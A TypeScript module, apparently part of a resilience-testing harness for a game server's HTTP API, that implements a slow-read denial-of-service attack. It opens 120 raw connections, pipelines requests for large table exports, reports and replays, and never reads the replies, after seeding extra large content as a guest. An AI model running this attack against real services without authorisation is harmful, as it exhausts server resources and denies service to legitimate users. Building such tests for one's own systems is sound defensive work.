import { type Attack, Counts, callers, oneEach, type Target } from '../attack.ts'
import { demand, keepOn, pause, tryGuest } from '../deeds.ts'
import { rawConnection } from '../raw-connection.ts'

const connections = 120

/** Asks for large answers over HTTP, many per connection, and reads none of them. */
export const unreadAnswers: Attack = {
  name: 'unread-answers',
  says: `${connections} connections ask for long games, records and reports over HTTP, request upon request, and never read`,
  async run(target, signal) {
    const counts = new Counts()
    const { host } = new URL(target.url)
    const paths = target.longGames.map((game) => `/api/tables/${game}/export`)
    const attackers = callers(target, connections).map(async (caller, n) => {
      const cookie = await tryGuest(counts, caller)
      await keepOn(signal, counts, async () => {
        const connection = await rawConnection(caller)
        counts.add('connection')
        connection.stopReading()
        for (let sent = 0; !connection.closed && !signal.aborted; sent++) {
          const path = paths[(n + sent) % paths.length]
          if (sent < 20) connection.send(`GET ${path} HTTP/1.1\r\nhost: ${host}\r\ncookie: ${cookie ?? ''}\r\n\r\n`)
          await pause(signal, 250)
        }
        if (connection.closed) counts.add('cut')
        connection.end()
      })
    })
    await Promise.all([store(target, counts, paths), ...attackers])
    return counts.tally
  },
}

/** Stores a report and a record of long games, and adds where they can be read. */
async function store(target: Target, counts: Counts, paths: string[]): Promise<void> {
  const [caller] = oneEach(target)
  const cookie = caller && (await tryGuest(counts, caller))
  if (!caller || !cookie) return
  const tell = async (path: string, body: string | object, at: string) => {
    const { status, text } = await demand(counts, caller, path, { cookie, body })
    if (status === 201) paths.push(`${at}/${JSON.parse(text).id}`)
  }
  await tell(`/api/tables/${target.longGames[0]}/reports`, { note: 'x' }, '/api/reports')
  await tell('/api/replays', target.longRecord, '/api/replays')
}
